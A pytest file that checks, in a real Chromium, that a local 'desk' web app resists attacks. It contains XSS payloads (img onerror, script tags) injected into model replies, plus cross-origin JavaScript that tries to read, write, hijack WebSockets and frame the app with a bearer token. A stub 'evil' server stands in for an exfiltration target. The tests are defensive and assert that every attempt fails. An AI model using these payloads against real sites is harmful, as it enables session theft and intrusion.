"""Attacks in a real Chromium: pages of other origins, and models and programs that answer with scripts."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from tests.support.chromium import Page, chromium
from tests.support.desk_front import TOKEN, DeskFront, desk_front
from tests.support.desk_page import build_desk
from tests.support.team_models import GOOD, GOOD_REPLIES, TESTS, EveryEngine, demo_repository, demo_story, scripted

pytestmark = [pytest.mark.wide, pytest.mark.network, pytest.mark.timeout(600)]

HOSTILE = "<img src=x onerror=window.hit=1><script>window.hit=1</script>"


@pytest.fixture(scope="module", autouse=True)
def _built() -> None:
    """What is attacked is what the sources make now."""
    build_desk()


@pytest.fixture
async def page() -> AsyncIterator[Page]:
    async with chromium() as found:
        yield found


@asynccontextmanager
async def evil_site(asked: list[str]) -> AsyncIterator[str]:
    """The address of a page of somebody else; what it is sent is kept, headers too."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            asked.append((await reader.readuntil(b"\r\n\r\n")).decode(errors="replace"))
        except asyncio.IncompleteReadError:
            # A browser opens connections ahead of need.
            writer.close()
            return
        body = b"<!doctype html><title>Evil</title><p>You won"
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n")
        writer.write(f"Access-Control-Allow-Origin: *\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"


# What the page of another origin tries with a token that it should never have had. Each gives what it got.
READ = """fetch('URL/api/planner/stories', { headers: { Authorization: 'Bearer TOKEN' } })
  .then((r) => r.text(), () => 'refused')"""
WRITE = """fetch('URL/api/planner/stories', { method: 'POST', mode: 'no-cors', body: '{"title":"x"}',
  headers: { 'Content-Type': 'text/plain' } }).then((r) => r.type, () => 'refused')"""
COMMAND = """fetch('URL/api/planner/stories', { method: 'POST', body: '{"title":"x"}', headers: {
  Authorization: 'Bearer TOKEN', 'Idempotency-Key': 'key-of-somebody-else', 'Content-Type': 'application/json' } })
  .then((r) => String(r.status), () => 'refused')"""
SOCKET = """new Promise((done) => { const ws = new WebSocket('WS/api/ws'); const got = [];
  ws.onopen = () => { got.push('open'); ws.send(JSON.stringify({ op: 'auth', token: 'TOKEN' })); };
  ws.onmessage = (m) => got.push(m.data); ws.onclose = () => done(got.join()); })"""
FRAME = """new Promise((done) => { const f = document.createElement('iframe'); f.src = 'URL/#token=TOKEN';
  f.onload = () => { let seen = 'nothing'; try { seen = f.contentDocument ? 'read' : 'nothing'; } catch {}
    setTimeout(() => done(seen), 500); }; document.body.append(f); })"""
SCRIPT = """new Promise((done) => { const s = document.createElement('script');
  s.src = 'URL/api/planner/stories'; s.onload = () => done('ran'); s.onerror = () => done('refused');
  document.head.append(s); })"""


@pytest.mark.rule("AP-1", "AP-10", "AP-110")
async def test_page_of_another_origin_reads_writes_frames_and_hears_nothing(page: Page, tmp_path: Path) -> None:
    asked: list[str] = []
    async with desk_front(tmp_path, EveryEngine(scripted())) as front, evil_site(asked) as evil:
        await page.open(f"{evil}/")
        found = {name: await page.evaluate(_filled(tried, front)) for name, tried in _TRIED.items()}
        assert found == {
            "read": "refused",
            # The answer of a form cannot be read, and it had no token: nothing was changed.
            "write": "opaque",
            "command": "refused",
            "socket": "",
            "frame": "nothing",
            "script": "refused",
        }
        assert any("X-Frame-Options" in one or "frame-ancestors" in one for one in page.trouble), page.trouble
        assert await front.team.desk.stories() == []


_TRIED = {"read": READ, "write": WRITE, "command": COMMAND, "socket": SOCKET, "frame": FRAME, "script": SCRIPT}


def _filled(tried: str, front: DeskFront) -> str:
    socket = front.url.replace("http", "ws", 1)
    return tried.replace("URL", front.url).replace("WS", socket).replace("TOKEN", TOKEN)


@pytest.mark.rule("AP-1", "AP-10")
async def test_desk_sends_its_token_to_no_other_host_though_it_is_asked_to(page: Page, tmp_path: Path) -> None:
    """A link with another page in it, a hostile story link, and the way to another site all leave without the token."""
    asked: list[str] = []
    async with desk_front(tmp_path, EveryEngine(scripted())) as front, evil_site(asked) as evil:
        await page.open(f"{front.url}/?next={evil}#token={TOKEN}&next={evil}")
        await page.sees("There is no story yet.")
        for place in (f"story/{evil}/overview", "story/..%2F..%2F..%2Fevil", f"gates/{evil}/x", f"/{evil}"):
            await page.open(f"{front.url}/#/{place}")
            await page.wait("document.querySelector('main') && !document.body.innerText.includes('Reading ')")
        assert page.hosts() == {f"127.0.0.1:{front.port}"}
        # Even a script that got into the page could send nothing: the policy of the desk names no other host.
        sent = await page.evaluate(f"fetch('{evil}/?t=' + sessionStorage.length).then(() => 'sent', () => 'refused')")
        assert sent == "refused"
        assert asked == []
        await page.evaluate(f"void (location.href = '{evil}/')")
        await page.sees("You won")
        assert asked
        # The icon that the other page asks for itself says that it comes from that page, and nothing of the desk.
        assert not [one for one in asked if TOKEN in one or f"127.0.0.1:{front.port}" in one]


@pytest.mark.rule("AP-1", "AP-10")
async def test_script_in_replies_of_models_and_lines_of_programs_never_runs(page: Page, tmp_path: Path) -> None:
    said = json.dumps(HOSTILE)[1:-1]
    design = [reply.replace("slugify joins", f"{said} slugify joins") for reply in GOOD_REPLIES["propose"]]  # type: ignore[union-attr]
    loud = GOOD.replace("```python\n", f"```python\nprint({HOSTILE!r})\n", 1).replace('return "-"', 'return "+"')
    model = scripted(
        propose=design,
        critique=json.dumps({"severity": "minor", "problem": HOSTILE}),
        draft=[loud, GOOD, GOOD],
        tests=TESTS.replace("def test_ac_1():\n", f"def test_ac_1():\n    print({HOSTILE!r})\n"),
        review=json.dumps({"broken_criterion": "none", "reason": HOSTILE}),
        document=json.dumps({"title": HOSTILE, "summary": HOSTILE, "usage": HOSTILE}),
    )
    async with desk_front(tmp_path, EveryEngine(model)) as front:
        story_id = await front.team.create(demo_story())
        await front.team.start(story_id, demo_repository(tmp_path / "stage"), model="mock")
        await front.team.settled(story_id, within_s=200)
        recorded = [event.body for event in await front.team.desk.events(story_id)]
        assert any(b"onerror" in body for body in recorded), "no reply with markup came through"
        await page.open(f"{front.url}/#token={TOKEN}")
        await page.sees("Board")
        for tab in ("overview", "council", "activity", "work", "changes", "files", "tests", "decisions", "report"):
            await page.open(f"{front.url}/#/story/{story_id}/{tab}")
            await page.wait("document.querySelector('.tabs [aria-current]')")
            await page.evaluate("document.querySelectorAll('details').forEach((e) => { e.open = true; })")
            await page.wait("!document.body.innerText.includes('Reading ')")
        assert await page.evaluate("window.hit") is None
        assert await page.evaluate("document.querySelectorAll('#root script, #root img, #root iframe').length") == 0
        assert page.hosts() == {f"127.0.0.1:{front.port}"}
        assert page.dialogs == 0
